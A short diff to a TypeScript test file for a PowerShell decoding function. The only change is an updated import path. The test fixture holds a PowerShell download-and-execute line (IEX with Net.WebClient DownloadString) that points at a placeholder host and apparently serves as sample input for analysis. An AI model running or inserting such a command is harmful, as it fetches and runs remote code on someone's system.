@@ -2,7 +2,7 @@ import { randomBytes } from 'node:crypto';
 import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
 import { expect, test } from 'vitest';
 import { inflate } from '../../../src/adapters/compression/inflate.ts';
-import { decodePowerShell } from '../../../src/core/facts/powershell.ts';
+import { decodePowerShell } from '../../../src/core/windows/powershell/powershell.ts';
 
 const CODE = 'IEX (New-Object Net.WebClient).DownloadString("https://example.test/a")';
 
